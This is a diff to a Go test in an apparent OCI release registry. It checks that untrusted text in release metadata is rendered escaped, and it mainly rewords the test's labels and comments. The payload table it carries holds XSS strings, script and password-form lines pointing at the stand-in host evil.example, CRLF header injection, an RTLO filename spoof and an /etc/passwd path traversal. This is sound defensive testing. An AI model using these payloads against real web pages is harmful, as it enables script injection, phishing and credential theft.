@@ -21,62 +21,62 @@ import (
 	"github.com/tofu-oci/tofu-oci/pkg/repository"
 )
 
-// hostileTexts are what somebody may write where a name belongs.
+// hostileTexts are untrusted texts for fields of a release.
 var hostileTexts = map[string]string{
-	"a script":                        `<script>alert(1)</script>`,
-	"an end of what it stands in":     `"'></code></td></table></main><script src=https://evil.example/x.js></script>`,
-	"an image":                        `<img src=x onerror=alert(1)>`,
-	"a picture that runs":             `<svg/onload=alert(1)>`,
-	"a handler within an attribute":   `x" onmouseover="alert(1)" x="`,
-	"a handler without quotes":        `x onfocus=alert(1) autofocus`,
-	"a handler in backticks":          "x`onclick=alert(1)`",
-	"a frame":                         `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-	"another base":                    `<base href="https://evil.example/">`,
-	"a refresh":                       `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
-	"a style":                         `</style><style>*{display:none}</style>`,
-	"an import":                       `<link rel=stylesheet href=//evil.example/x.css>`,
-	"a form":                          `<form action="https://evil.example/"><input name=password></form>`,
-	"a comment":                       `<!-- `,
-	"the end of a comment":            `--><!--`,
-	"a declaration":                   `<![CDATA[ <?php echo 1 ?> ]]>`,
-	"the end of a title":              `</title></textarea></noscript><b>`,
-	"entities":                        `&lt;script&gt;&#60;script&#62;&quot;`,
-	"an entity without an end":        `&ltscript&gt`,
-	"a template":                      `{{.Root}}{{template "top" .}}${alert(1)}`,
-	"a script as a link":              `javascript:alert(1)`,
-	"a script as a link, disguised":   "java\tscript:alert(1)//\u0001javascript:alert(1)",
-	"a document as a link":            `data:text/html,<script>alert(1)</script>`,
-	"another host as a link":          `//evil.example/`,
-	"the other direction":             "gpj.\u202Eexe.live\u202C",
-	"isolates that do not end":        "\u2066\u2067\u2068 admin",
-	"marks of direction":              "\u200E\u200F\u061C",
-	"letters of the other direction":  "ספק אדום",
-	"no width":                        "ac\u200Bm\u200De\uFEFF\u2060",
-	"tags":                            "\U000E0041\U000E0042",
-	"letters that are blank":          "a\u3164\u115F\uFFA0",
-	"a terminal's escapes":            "\x1b[2J\x1b]8;;https://evil.example\x1b\\\u009b2J",
-	"a NUL":                           "a\x00b",
-	"control characters":              "a\b\f\v\x7f\u0085b",
-	"lines":                           "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
-	"separators of lines":             "a\u2028b\u2029c",
-	"towers of marks":                 "Z" + strings.Repeat("\u0335\u0321\u034a", 300),
-	"marks before all":                strings.Repeat("\u20DD", 40),
-	"variations":                      "a\uFE0F\U000E0100",
-	"for private use":                 "\uE000\U000F0000",
-	"a line of a megabyte":            strings.Repeat("a", 1<<20),
-	"much markup":                     strings.Repeat("<b>'", 1<<14),
-	"very many marks":                 strings.Repeat("\u0301", 1<<14),
-	"many lines":                      strings.Repeat("a\n", 1<<14),
-	"a path":                          "../../../../etc/passwd",
-	"nothing":                         "",
-	"much white space":                strings.Repeat(" \u00A0\u3000", 1<<13),
-	"a lone half, written as JSON":    "\uFFFD", // what JSON's \ud800 is read as
-	"brackets of other scripts":       "\uFF1Cscript\uFF1E",
-	"a percent sign in what is a URL": "%3Cscript%3E%00%2e%2e%2f",
+	"a script":                       `<script>alert(1)</script>`,
+	"end of the surrounding element": `"'></code></td></table></main><script src=https://evil.example/x.js></script>`,
+	"an image":                       `<img src=x onerror=alert(1)>`,
+	"active image":                   `<svg/onload=alert(1)>`,
+	"a handler within an attribute":  `x" onmouseover="alert(1)" x="`,
+	"a handler without quotes":       `x onfocus=alert(1) autofocus`,
+	"a handler in backticks":         "x`onclick=alert(1)`",
+	"a frame":                        `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	"another base":                   `<base href="https://evil.example/">`,
+	"a refresh":                      `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+	"a style":                        `</style><style>*{display:none}</style>`,
+	"an import":                      `<link rel=stylesheet href=//evil.example/x.css>`,
+	"a form":                         `<form action="https://evil.example/"><input name=password></form>`,
+	"a comment":                      `<!-- `,
+	"the end of a comment":           `--><!--`,
+	"a declaration":                  `<![CDATA[ <?php echo 1 ?> ]]>`,
+	"the end of a title":             `</title></textarea></noscript><b>`,
+	"entities":                       `&lt;script&gt;&#60;script&#62;&quot;`,
+	"unterminated entity":            `&ltscript&gt`,
+	"a template":                     `{{.Root}}{{template "top" .}}${alert(1)}`,
+	"a script as a link":             `javascript:alert(1)`,
+	"disguised script as a link":     "java\tscript:alert(1)//\u0001javascript:alert(1)",
+	"a document as a link":           `data:text/html,<script>alert(1)</script>`,
+	"another host as a link":         `//evil.example/`,
+	"right-to-left override":         "gpj.\u202Eexe.live\u202C",
+	"unterminated isolates":          "\u2066\u2067\u2068 admin",
+	"direction marks":                "\u200E\u200F\u061C",
+	"right-to-left letters":          "ספק אדום",
+	"zero width":                     "ac\u200Bm\u200De\uFEFF\u2060",
+	"tags":                           "\U000E0041\U000E0042",
+	"blank letters":                  "a\u3164\u115F\uFFA0",
+	"a terminal's escapes":           "\x1b[2J\x1b]8;;https://evil.example\x1b\\\u009b2J",
+	"a NUL":                          "a\x00b",
+	"control characters":             "a\b\f\v\x7f\u0085b",
+	"lines":                          "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
+	"line separators":                "a\u2028b\u2029c",
+	"stacked marks":                  "Z" + strings.Repeat("\u0335\u0321\u034a", 300),
+	"leading marks":                  strings.Repeat("\u20DD", 40),
+	"variations":                     "a\uFE0F\U000E0100",
+	"for private use":                "\uE000\U000F0000",
+	"a line of a megabyte":           strings.Repeat("a", 1<<20),
+	"much markup":                    strings.Repeat("<b>'", 1<<14),
+	"very many marks":                strings.Repeat("\u0301", 1<<14),
+	"many lines":                     strings.Repeat("a\n", 1<<14),
+	"a path":                         "../../../../etc/passwd",
+	"nothing":                        "",
+	"much white space":               strings.Repeat(" \u00A0\u3000", 1<<13),
+	"lone surrogate in JSON":         "\uFFFD", // JSON's \ud800 is decoded to this
+	"brackets of other scripts":      "\uFF1Cscript\uFF1E",
+	"percent sign in a URL":          "%3Cscript%3E%00%2e%2e%2f",
 }
 
-// TestHostileText: wherever a release has it, pages show it as text: they have no tag,
-// and no attribute, that they would not have without it.
+// TestHostileText checks that pages escape all untrusted texts: they contain no additional
+// tags or attributes.
 func TestHostileText(t *testing.T) {
 	t.Parallel()
 	patience.SkipIfShort(t)
@@ -97,11 +97,11 @@ func TestHostileText(t *testing.T) {
 				for path, body := range open(t).pagesWith(t, text, signed) {
 					for tag := range skeleton(body) {
 						if !calm[tag] {
-							t.Errorf("%s has %s", path, tag)
+							t.Errorf("%s contains %s", path, tag)
 						}
 					}
 					if at := strings.IndexFunc(body, unseen); at >= 0 {
-						t.Errorf("%s has %q", path, body[at:min(len(body), at+20)])
+						t.Errorf("%s contains %q", path, body[at:min(len(body), at+20)])
 					}
 				}
 			})
@@ -109,7 +109,7 @@ func TestHostileText(t *testing.T) {
 	}
 }
 
-// unseen tells of characters that do not show themselves.
+// unseen reports whether a character is invisible.
 func unseen(r rune) bool {
 	return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point)
 }
@@ -119,7 +119,7 @@ var (
 	attributes = regexp.MustCompile(`="[^"]*"`)
 )
 
-// skeleton is the tags of a page with the names of their attributes.
+// skeleton returns the tags of a page with the names of their attributes.
 func skeleton(body string) map[string]bool {
 	all := map[string]bool{}
 	for _, tag := range tags.FindAllString(body, -1) {
@@ -128,8 +128,7 @@ func skeleton(body string) map[string]bool {
 	return all
 }
 
-// pagesWith returns the pages of a server over a release that has a text wherever its
-// format lets it have one.
+// pagesWith returns the pages for a release that contains a text in every possible field.
 func (w *world) pagesWith(t *testing.T, text string, by *key) map[string]string {
 	t.Helper()
 	bom := w.pushHostile(t, text, by)
@@ -146,7 +145,7 @@ func (w *world) pagesWith(t *testing.T, text string, by *key) map[string]string 
 		if !slices.Contains(want, got.Code) {
 			t.Errorf("%s: got %d %s", path, got.Code, got.Body)
 		}
-		if got.Header().Get("Content-Type") != "application/json" { // that is of paths which are none
+		if got.Header().Get("Content-Type") != "application/json" { // invalid paths have a JSON error
 			checkPage(t, path, got.Header(), got.Body.String())
 			all[path] = got.Body.String()
 		}
@@ -154,10 +153,10 @@ func (w *world) pagesWith(t *testing.T, text string, by *key) map[string]string 
 	return all
 }
 
-// pushHostile stores a release with a text in it, and gives the digest of its SBOM.
+// pushHostile stores a release that contains a text, and returns the digest of its SBOM.
 func (w *world) pushHostile(t *testing.T, text string, by *key) digest.Digest {
 	t.Helper()
-	// 1. A release as it should be, with an SBOM of each package.
+	// 1. Push a valid release with an SBOM for each package.
 	w.push(t, rocket{version: "1.0.0", key: by})
 	component := map[string]any{
 		"name": text, "versionInfo": text, "licenseDeclared": text,
@@ -169,7 +168,7 @@ func (w *world) pushHostile(t *testing.T, text string, by *key) digest.Digest {
 			"mediaType": mediaType, "digest": bom.Digest.String(), "size": bom.Size, "annotations": map[string]any{ocispec.AnnotationTitle: title},
 		}
 	}
-	// 2. The text in its manifests and its index.
+	// 2. Add the text to its manifests and its index.
 	tagged, index := w.manifest(t, "1.0.0")
 	for _, m := range index["manifests"].([]any) {
 		child := m.(map[string]any)
@@ -186,12 +185,12 @@ func (w *world) pushHostile(t *testing.T, text string, by *key) digest.Digest {
 	if err := w.repo.PushTag(t.Context(), moved, "1.0.0", tagged.Digest); err != nil {
 		t.Fatal(err)
 	}
-	// 3. Something that refers to it.
+	// 3. Add a referrer.
 	w.refer(t, text, moved.Descriptor)
 	return bom.Digest
 }
 
-// refer attaches a document, and then gives it a name that we would not write.
+// refer attaches a document, and then gives it a name that tofu-oci would not write.
 func (w *world) refer(t *testing.T, name string, to ocispec.Descriptor) {
 	t.Helper()
 	calm := artifact.NewDocument("calm.intoto.jsonl", artifact.MediaTypeInToto, []byte("{}"))
@@ -208,7 +207,7 @@ func (w *world) refer(t *testing.T, name string, to ocispec.Descriptor) {
 	renamed := w.pushManifest(t, manifest)
 	list := artifact.ReferrersTag(to.Digest)
 	if w.registry != nil {
-		return // it lists what refers to something by itself
+		return // it lists referrers itself
 	}
 	was, index := w.manifest(t, list)
 	entry := index["manifests"].([]any)[0].(map[string]any)
@@ -235,7 +234,7 @@ func (w *world) blob(t *testing.T, document map[string]any) artifact.Blob {
 	t.Helper()
 	var text bytes.Buffer
 	encoder := json.NewEncoder(&text)
-	encoder.SetEscapeHTML(false) // it would make six bytes of one
+	encoder.SetEscapeHTML(false) // escaping would turn one byte into six
 	if err := encoder.Encode(document); err != nil {
 		t.Fatal(err)
 	}
